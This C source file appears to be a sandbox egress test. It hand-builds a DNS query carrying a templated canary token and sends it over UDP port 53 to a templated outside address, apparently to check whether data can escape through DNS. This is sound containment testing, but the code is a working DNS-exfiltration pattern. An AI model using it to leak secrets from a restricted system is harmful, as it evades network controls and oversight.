#include "nohatch.h"
#include <arpa/inet.h>
#include <sys/socket.h>

static char query[512] = "\x12\x34\x01\0\0\x01\0\0\0\0\0";
static size_t size = 12;

static void add(const char* name) {
  for (size_t length; *name != 0; name += length + (name[length] == '.')) {
    length = strcspn(name, ".");
    query[size++] = (char)length;
    memcpy(query + size, name, length);
    size += length;
  }
}

int main(void) {
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(53)};
  inet_pton(AF_INET, "{{canary.ipv4}}", &to.sin_addr);
  add("{{canary.token}}");
  add("{{canary.name}}");
  memcpy(query + size, "\0\0\1\0\1", 5);
  at_step();
  const int sender = socket(AF_INET, SOCK_DGRAM, 0);  // step
  if (sender < 0) fail("socket", "UDP");
  for (int turn = 0; turn < 3; turn++) {
    if (sendto(sender, query, size + 5, 0, (struct sockaddr*)&to, sizeof to) < 0) fail("sendto", "port 53");  // step
    tried();
  }
  past_step();
}
